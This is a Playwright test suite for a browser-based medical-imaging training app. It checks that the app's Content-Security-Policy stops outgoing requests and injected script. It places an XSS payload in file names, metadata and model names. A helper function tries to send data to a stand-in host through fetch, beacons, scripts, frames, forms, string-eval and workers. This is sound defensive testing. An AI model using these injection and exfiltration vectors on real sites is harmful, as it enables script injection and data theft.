import type { APIRequestContext, Page } from '@playwright/test';
import packedDicoms from '../../src/workers/ingest/read-packed-dicom.oracle.json' with { type: 'json' };
import { dicomBytes } from '../../src/domain/testing/dicom-bytes';
import { AppFrame } from './pages/app-frame';
import { DataPage } from './pages/data-page';
import { EvaluatePage } from './pages/evaluate-page';
import { Explanation } from './pages/explanation';
import { ExplorePage } from './pages/explore-page';
import { ForestCard } from './pages/forest-card';
import { Gallery } from './pages/gallery';
import { KeptDatasets } from './pages/kept-datasets';
import { ModelsCard } from './pages/models-card';
import { PlanCard } from './pages/plan-card';
import { PredictPage } from './pages/predict-page';
import { RunsCard } from './pages/runs-card';
import { TrainPage } from './pages/train-page';
import { download } from './support/downloads';
import { readSampleFile, SAMPLE_IMAGES } from './support/sample-archive';
import { METADATA_PATH, smallMetadata } from '../../src/ui/testing/small-metadata';
import { asZip, smallArchive, zipFiles } from './support/small-archive';
import { expect, test } from './support/test';
import { watchPolicy } from './support/watch-policy';

/** Runs a script wherever it becomes an element of the page. */
const MARKUP = '<img src=x onerror=alert(1)>';

test('the policy is in the page and comes with every file, and keeps back what would leave or run', async ({
  context,
  request,
  baseURL,
}) => {
  // Not the watched page, for which a request to anywhere else is a failure.
  const page = await context.newPage();
  const violations = await watchPolicy(page);
  const left: string[] = [];
  await context.route(
    (url) => url.origin !== new URL(baseURL ?? '').origin,
    async (route) => {
      left.push(route.request().url());
      await route.abort();
    },
  );
  const dialogs = watchDialogs(page);
  await new AppFrame(page).open();
  await expectPolicy(page, request);

  await new DataPage(page).useSmallArchive();
  // While it is written the browser would ask before leaving.
  await expect(new KeptDatasets(page).button('Delete the copy')).toBeVisible();
  await page.evaluate(tryToLeave);
  const inPage = () =>
    violations.filter(({ where }) => where === 'page').map(({ directive }) => directive);
  // A form is sent in a task of its own, which the browser may drop for what else happens.
  await expect
    .poll(async () => {
      await page.evaluate(sendForm);
      return inPage();
    })
    .toContain('form-action');
  await expect
    .poll(() => [...new Set(inPage())].sort())
    .toEqual([
      'base-uri',
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'object-src',
      'script-src',
      'script-src-attr',
      'script-src-elem',
      'style-src-attr',
      'style-src-elem',
      'worker-src',
    ]);

  const [worker] = page.workers();
  expect(worker, 'a worker of the import').toBeDefined();
  await worker?.evaluate(() => fetch('https://elsewhere.example/').catch(() => undefined));
  await expect
    .poll(() => violations.filter(({ where }) => where === 'worker'))
    .toEqual([
      { directive: 'connect-src', blocked: 'https://elsewhere.example/', where: 'worker' },
    ]);
  expect(left).toEqual([]);
  expect(dialogs).toEqual([]);
});

test('the whole way goes by the policy, with markup in every name', async ({
  page,
  browser,
  requestedUrls,
}) => {
  const violations = await watchPolicy(page);
  const dialogs = watchDialogs(page);
  const frame = new AppFrame(page);
  const data = new DataPage(page);
  const explore = new ExplorePage(page);
  const gallery = new Gallery(page);
  const train = new TrainPage(page);
  const forest = new ForestCard(page);
  const predict = new PredictPage(page);
  const runs = new RunsCard(page);
  const image = {
    name: `${MARKUP}.jpeg`,
    mimeType: 'image/jpeg',
    buffer: await readSampleFile(SAMPLE_IMAGES.pneumonia),
  };

  await test.step('the sample, looked at', async () => {
    await frame.open('', 'webgl');
    await data.useSample();
    await frame.goTo('explore');
    await explore.show('figures');
    await expect(page.getByRole('figure')).toHaveCount(5);
    await explore.showAudit();
  });

  await test.step('a zip with markup in its name, its metadata and its images', async () => {
    await frame.goTo('data');
    const files = {
      ...(await smallArchive()),
      [METADATA_PATH]: smallMetadata(
        `${MARKUP}.jpeg,Normal,TRAIN,`,
        `lost-${MARKUP}.jpeg,Normal,TRAIN,`,
        `odd.jpeg,${MARKUP},TRAIN,${MARKUP}`,
      ),
      [`train/${MARKUP}.jpeg`]: image.buffer,
      'train/odd.jpeg': image.buffer,
    };
    await data.openZip(asZip(await zipFiles(files), `${MARKUP}.zip`));
    // An image whose label is no class of the article is asked about.
    await new PlanCard(page).read(7);
    await expect(data.summary.getByRole('heading')).toHaveText(`${MARKUP}.zip`);
    await frame.goTo('explore');
    await explore.show('gallery');
    await gallery.open(`${MARKUP}.jpeg`);
    await gallery.close();
    await explore.showAudit();
  });

  await test.step('trained with WebGL and with WebAssembly, and a forest', async () => {
    await frame.goTo('train');
    await train.train({ epochs: 1 });
    await expect(train.status).toContainText('Runs on WebGL');
    await train.openOptions();
    await train.backend.selectOption('wasm');
    // Another number, so that it has another name.
    await train.train({ epochs: 2 });
    await expect(train.status).toContainText('Runs on WASM');
    await frame.show('compare', 'forest');
    await forest.grow();
  });

  const bundle = await test.step('evaluated, renamed to markup and taken along', async () => {
    await frame.goTo('compare');
    await runs.rename(await runs.nameOf(0), MARKUP);
    await frame.goTo('evaluate');
    const evaluate = new EvaluatePage(page);
    await evaluate.openExports();
    return download(evaluate.bundleButton, /\.zip$/);
  });

  await test.step('asked about files with markup in their names', async () => {
    await frame.goTo('predict');
    await predict.ask(image);
    await predict.expectAnswer(image.name);
    const { map } = new Explanation(page);
    await expect(map.getByRole('status')).toContainText(/covering (it )?(lowers|raises)/);
    await predict.ask({ name: `${MARKUP}.dcm`, mimeType: '', buffer: Buffer.from(dicomRamp()) });
    await predict.expectNoAnswer(`${MARKUP}.dcm`);
  });

  await test.step('asked about DICOM files that need a codec, which comes with them', async () => {
    const codecs = () => requestedUrls.filter((url) => /assets\/jpeg-(2000|ls)-/.test(url)).length;
    expect(codecs()).toBe(0);
    for (const name of ['12 bits, lossless JPEG 2000', '16 bits, lossless JPEG-LS']) {
      await predict.ask({ name: `${name}.dcm`, mimeType: '', buffer: packedDicom(name) });
      await predict.expectNoAnswer(`${name}.dcm`);
    }
    expect(codecs()).toBe(2);
  });

  const elsewhere = await browser.newContext();
  const otherPage = await elsewhere.newPage();
  const otherViolations = await watchPolicy(otherPage);
  const otherDialogs = watchDialogs(otherPage);
  otherPage.on('request', (request) => {
    requestedUrls.push(request.url());
  });
  await test.step('the bundle opened on another machine', async () => {
    await new AppFrame(otherPage).open('predict');
    await new ModelsCard(otherPage).open(`${MARKUP}.zip`, bundle);
    await new PredictPage(otherPage).ask(image);
    await new PredictPage(otherPage).expectAnswer(image.name);
    await expect(otherPage.getByRole('region', { name: 'Models' })).toContainText(MARKUP);
  });

  // Where the requests went is looked at for every journey.
  for (const worker of ['ingest', 'analysis', 'training', 'forest', 'export', 'storage']) {
    expect(requestedUrls.some((url) => url.includes(`${worker}.worker`))).toBe(true);
  }
  expect([...violations, ...otherViolations]).toEqual([]);
  expect([...dialogs, ...otherDialogs]).toEqual([]);
  await elsewhere.close();
});

/** It names no way out, and rules all that comes after it. */
async function expectPolicy(page: Page, request: APIRequestContext): Promise<void> {
  const policy = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content');
  const directives = new Map(
    (policy ?? '').split('; ').map((directive) => {
      const [name = '', ...sources] = directive.split(' ');
      return [name, sources];
    }),
  );
  expect(Object.fromEntries(directives)).toEqual({
    'default-src': ["'none'"],
    'script-src': ["'self'", "'wasm-unsafe-eval'"],
    'style-src': ["'self'", expect.stringMatching(/^'sha256-[\w+/]{43}='$/)],
    'img-src': ["'self'", 'blob:'],
    'connect-src': ["'self'"],
    'worker-src': ["'self'"],
    'manifest-src': ["'self'"],
    'object-src': ["'none'"],
    'base-uri': ["'none'"],
    'form-action': ["'none'"],
  });
  const first = page.locator('head > :first-child');
  await expect(first).toHaveAttribute('http-equiv', 'Content-Security-Policy');
  expect(await page.evaluate(() => document.characterSet)).toBe('UTF-8');
  // The workers go by the header of their own script.
  for (const path of ['./', './sample-dataset.zip']) {
    expect((await request.get(path)).headers()['content-security-policy']).toBe(policy);
  }
}

/** Everything by which a page can send something away or run what was put into it. */
function tryToLeave(): void {
  const elsewhere = 'https://elsewhere.example/';
  const add = <Tag extends keyof HTMLElementTagNameMap>(
    tag: Tag,
    attributes: Record<string, string>,
    text = '',
  ) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    element.textContent = text;
    document.body.append(element);
    return element;
  };
  void fetch(`${elsewhere}fetch`).catch(() => undefined);
  navigator.sendBeacon(`${elsewhere}beacon`, 'pixels');
  add('img', { src: `${elsewhere}image` });
  add('script', { src: `${elsewhere}script` });
  add('script', {}, 'alert("an inline script")');
  add('style', {}, `body { background: url(${elsewhere}style) }`);
  add('link', { rel: 'stylesheet', href: `${elsewhere}sheet` });
  add('div', { style: `background: url(${elsewhere}attribute)` });
  add('iframe', { src: `${elsewhere}frame` });
  add('object', { data: `${elsewhere}object` });
  add('base', { href: elsewhere });
  document.body.insertAdjacentHTML('beforeend', '<img src="" onerror="alert(1)">');
  // A string as code, as `eval` takes it.
  Reflect.apply(window.setTimeout, window, ['alert("a string that is run")']);
  new Worker(URL.createObjectURL(new Blob([`fetch('${elsewhere}worker')`])));
}

function sendForm(): void {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = 'https://elsewhere.example/form';
  document.body.append(form);
  form.submit();
}

function watchDialogs(page: Page): string[] {
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  return dialogs;
}

/** One of the files that are compared with pydicom, which are kept without their preambles. */
function packedDicom(name: string): Buffer {
  const kept = packedDicoms.files.find((one) => one.name === name);
  return Buffer.concat([Buffer.alloc(128), Buffer.from(kept?.file ?? '', 'base64')]);
}

/** 256 x 128 of 8 bits, from black on the left to white on the right. */
function dicomRamp(): Uint8Array {
  return dicomBytes('1.2.840.10008.1.2.1', [
    [0x00280002, 'US', 1],
    [0x00280004, 'CS', 'MONOCHROME2'],
    [0x00280010, 'US', 128],
    [0x00280011, 'US', 256],
    [0x00280100, 'US', 8],
    [0x00280101, 'US', 8],
    [0x00280103, 'US', 0],
    [0x7fe00010, 'OB', Uint8Array.from({ length: 256 * 128 }, (_, at) => at % 256)],
  ]);
}
